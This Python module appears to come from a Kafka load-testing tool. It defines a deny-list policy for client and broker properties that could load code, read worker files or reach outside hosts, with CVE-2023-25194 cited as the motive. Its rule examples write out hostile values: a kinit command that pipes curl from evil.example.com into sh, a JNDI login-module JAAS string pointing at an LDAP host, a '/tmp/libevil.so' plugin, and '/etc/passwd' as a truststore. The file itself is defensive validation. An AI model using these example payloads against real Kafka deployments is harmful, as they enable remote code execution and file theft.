"""Which client and broker properties a user may set: one policy, applied wherever properties enter
(producer profiles' librdkafka and Java forms, the processors' properties, a run's `broker_config`, a
topology's `broker_overrides`) and so whatever carried them (CLI, params file, profiles, topology and
preset files, a DAG trigger), before any JVM, client or broker is built.

Whoever may trigger a DAG chooses these properties, so the policy refuses what would run code on the
worker (a class, an interceptor, a plugin library, a login module: CVE-2023-25194), read a file into
the run (key stores, keytabs, config providers), reach a host acklab did not start (bootstrap servers,
token endpoints, any URL), point a client at a cluster other than the one under test (librdkafka's mock
cluster) or move what the cluster is (listeners, log directories, node ids). Each refusal is a `Rule`:
the names it covers, the values it still allows (the client's own classes, PLAINTEXT) and why; a
value that names a Java class outside `org.apache.kafka` is refused under any name, and no value may
hold a line break or a backslash (a properties file would read further properties or escapes from it).

`client_property_problem` / `broker_property_problem` answer one property with the line to show, or
None; `check_client_properties` / `check_broker_properties` raise it (ValueError, so pydantic
validators and specs report it in one line)."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Literal

ClientFamily = Literal["librdkafka", "java"]
CLIENT_FAMILIES: tuple[ClientFamily, ...] = ("librdkafka", "java")

KAFKA_CLASS = r"org\.apache\.kafka\.[A-Za-z0-9_.$]+"
"""A class of Apache Kafka's own jars (the client's or the broker's)."""
JAVA_CLASS = re.compile(r"(?<![\w$.])(?:[A-Za-z_$][\w$]*\.)+[A-Za-z_$][\w$]*")
"""What may name a Java class: dotted identifiers (a class need not be capitalised)."""
NAMES_NOT_CLASSES = frozenset({"client.id", "transactional.id", "group.id", "group.instance.id", "client.rack"})
"""Identifiers that may look like a class name (`com.acme.OrderService`) and are never loaded."""


@dataclass(frozen=True)
class Rule:
    """Properties refused: names `names` matches (whole name), unless every comma-separated part of
    the value matches `allowed` (an empty value always passes when `allowed` is given)."""

    names: str
    reason: str
    example: tuple[str, str]
    """A property this rule refuses (name, value): the tests and the reference show it."""
    allowed: str | None = None

    def refuses(self, name: str, value: str) -> bool:
        if not re.fullmatch(self.names, name):
            return False
        if self.allowed is None:
            return True
        parts = [part.strip() for part in value.split(",") if part.strip()]
        return not all(re.fullmatch(self.allowed, part) for part in parts)


CODE = "it would load code into the client (a class, interceptor, plugin or login module)"
FILES = "it would read files on the worker into the config (key stores, keytabs, JAAS or config files)"
HOSTS = "it would reach a host acklab did not start (acklab's cluster is on 127.0.0.1 and acklab sets its addresses)"
PLAINTEXT_ONLY = "acklab's brokers listen in PLAINTEXT on 127.0.0.1 (no SSL or SASL)"

CLIENT_RULES: Mapping[ClientFamily, tuple[Rule, ...]] = {
    "librdkafka": (
        Rule(r"bootstrap\.servers|metadata\.broker\.list", HOSTS, example=('bootstrap.servers', '10.1.1.1:9092')),
        Rule(r"plugin\.library\.paths?", "it would dlopen() a shared library into the producer", example=('plugin.library.path', '/tmp/libevil.so')),
        Rule(r"sasl\..*|enable\.sasl\..*", "SASL settings run a shell command (sasl.kerberos.kinit.cmd), read keytabs or reach "
             "token endpoints, and " + PLAINTEXT_ONLY, example=('sasl.kerberos.kinit.cmd', 'curl evil.example.com | sh')),
        Rule(r"ssl\..*|ssl_.*|https\..*|enable\.ssl\..*", "SSL settings read certificate and key files or load an OpenSSL engine, and "
             + PLAINTEXT_ONLY, example=('ssl.engine.location', '/tmp/engine.so')),
        Rule(r"security\.protocol", PLAINTEXT_ONLY, allowed=r"(?i)plaintext", example=('security.protocol', 'SASL_SSL')),
        Rule(r"internal\.termination\.signal", "librdkafka would take over a signal the workload stops or arms its processes with",
             example=("internal.termination.signal", "15")),
        Rule(r"test\..*", "it configures librdkafka's built-in mock cluster, not the cluster under test", example=('test.mock.num.brokers', '3')),
        Rule(r".*_cb|opaque|interceptors|on_delivery|logger", "callbacks are the workload's own, not properties", example=('oauthbearer_token_refresh_cb', 'x')),
        Rule(r".*\.(url|urls|uri|endpoint)", HOSTS, example=('schema.registry.url', 'http://evil.example.com')),
    ),
    "java": (
        Rule(r"bootstrap\.servers", HOSTS, example=('bootstrap.servers', '10.1.1.1:9092')),
        Rule(r"sasl\..*", "SASL settings load login modules and callback handlers (JNDI: CVE-2023-25194), read JAAS files and "
             "keytabs or reach token endpoints, and " + PLAINTEXT_ONLY, example=('sasl.jaas.config', 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example.com";')),
        Rule(r"ssl\..*", "SSL settings read key and trust stores or load an engine factory, and " + PLAINTEXT_ONLY, example=('ssl.truststore.location', '/etc/passwd')),
        Rule(r"security\.protocol", PLAINTEXT_ONLY, allowed=r"(?i)plaintext", example=('security.protocol', 'SSL')),
        Rule(r"config\.providers(\..*)?", FILES + " or the environment", example=('config.providers', 'file')),
        Rule(r"security\.providers", CODE, example=('security.providers', 'com.example.Provider')),
        Rule(r"interceptor\.classes", CODE + ", run on every record", allowed=r"(?!)", example=('interceptor.classes', 'com.example.Evil')),
        Rule(r"metric\.reporters", CODE + "; only the client's JmxReporter is allowed", allowed=r"org\.apache\.kafka\.common\.metrics\.JmxReporter", example=('metric.reporters', 'com.example.Reporter')),
        Rule(r".*\.class|.*\.classes|key\.serializer|value\.serializer", CODE + "; only Apache Kafka's own classes (org.apache.kafka.*) are allowed",
             allowed=KAFKA_CLASS, example=('partitioner.class', 'com.example.Partitioner')),
        Rule(r".*\.(url|urls|uri|endpoint)", HOSTS, example=('metadata.recovery.uri', 'https://evil.example.com')),
    ),
}

BROKER_RULES: tuple[Rule, ...] = (
    Rule(r".*\.class|.*\.class\.name|.*\.class\.names|.*\.classes|.*class\.path|.*\.classpath",
         "it would load a class or jars into the broker (an authorizer, a policy, a plugin)", example=('authorizer.class.name', 'com.example.Evil')),
    Rule(r"metric\.reporters|kafka\.metrics\.reporters", "it would load metric reporter classes into the broker", example=('metric.reporters', 'com.example.Reporter')),
    Rule(r"config\.providers(\..*)?", "it would read files, directories or the environment into the broker's config", example=('config.providers', 'file')),
    Rule(r"log\.dirs?|metadata\.log\.dir", "the broker's data directories are the run's own folders (acklab sets them)", example=('log.dirs', '/etc')),
    Rule(r"listeners|advertised\.listeners|listener\..*|controller\.listener\.names|inter\.broker\.listener\.name|"
         r"controller\.quorum\..*|process\.roles|node\.id|broker\.id",
         "the cluster's shape and addresses are the topology's (acklab binds every node to 127.0.0.1)", example=('advertised.listeners', 'CLIENT://evil.example.com:9092')),
    Rule(r"ssl\..*|sasl\..*|security\..*|principal\.builder\..*|.*\.jaas\.config",
         "security settings read key stores or load login modules, and " + PLAINTEXT_ONLY, example=('ssl.keystore.location', '/etc/passwd')),
    Rule(r"zookeeper\..*", HOSTS, example=('zookeeper.connect', 'evil.example.com:2181')),
    Rule(r"remote\.log\..*", "tiered storage would load storage-manager jars and reach remote storage", example=('remote.log.storage.system.enable', 'true')),
    Rule(r".*\.(url|urls|uri|endpoint)", HOSTS, example=('confluent.telemetry.endpoint', 'https://evil.example.com')),
)


def _text(value: object) -> str:
    return str(value).lower() if isinstance(value, bool) else str(value)


def _problem(who: str, rules: tuple[Rule, ...], name: str, value: object) -> str | None:
    text = _text(value)
    if not re.fullmatch(r"[A-Za-z0-9_.\-]+", name):
        return f"{who} property {name!r} refused: a property name holds only letters, digits and . _ -"
    for rule in rules:
        if rule.refuses(name, text):
            return f"{who} property {name} refused: {rule.reason}"
    if any(ord(c) < 32 or ord(c) == 127 for c in text) or "\\" in text:
        return (f"{who} property {name} refused: its value holds a line break, a control character or a backslash (a "
                "properties file would read further properties or escaped characters from it)")
    for found in () if name in NAMES_NOT_CLASSES else JAVA_CLASS.finditer(text):
        if not re.fullmatch(KAFKA_CLASS, found.group(0)):
            return f"{who} property {name} refused: its value names the class {found.group(0)}, not one of Apache Kafka's own (org.apache.kafka.*)"
    return None


def client_property_problem(family: ClientFamily, name: str, value: object) -> str | None:
    """The one line refusing the `family` client property `name` = `value`, or None if it is allowed."""
    return _problem(family, CLIENT_RULES[family], name, value)


def broker_property_problem(name: str, value: object) -> str | None:
    """The one line refusing the broker setting `name` = `value`, or None if it is allowed."""
    return _problem("broker", BROKER_RULES, name, value)


def check_client_properties(family: ClientFamily, properties: Mapping[str, object]) -> None:
    """ValueError with the first refused property's line (`client_property_problem`)."""
    for name, value in properties.items():
        if (problem := client_property_problem(family, str(name), value)) is not None:
            raise ValueError(problem)


def check_broker_properties(properties: Mapping[str, object]) -> None:
    """ValueError with the first refused broker setting's line (`broker_property_problem`)."""
    for name, value in properties.items():
        if (problem := broker_property_problem(str(name), value)) is not None:
            raise ValueError(problem)


def examples() -> list[tuple[str, str, str]]:
    """(who, name, value) of every rule's example: `broker` or the client family, then the property."""
    return [(family, *rule.example) for family, rules in CLIENT_RULES.items() for rule in rules] + [
        ("broker", *rule.example) for rule in BROKER_RULES
    ]


def refused_names_schema(who: ClientFamily | Literal["broker"]) -> dict[str, object]:
    """A JSON schema (`propertyNames`) refusing the names `who`'s rules refuse whatever the value, so a
    trigger naming one is refused by the form and the REST API before a run exists; the rest of the
    policy (values, allowed classes) is checked when the run is planned."""
    rules = BROKER_RULES if who == "broker" else CLIENT_RULES[who]
    names = "|".join(f"(?:{rule.names})" for rule in rules if rule.allowed is None)
    return {"propertyNames": {"not": {"pattern": f"^(?:{names})$"}}}
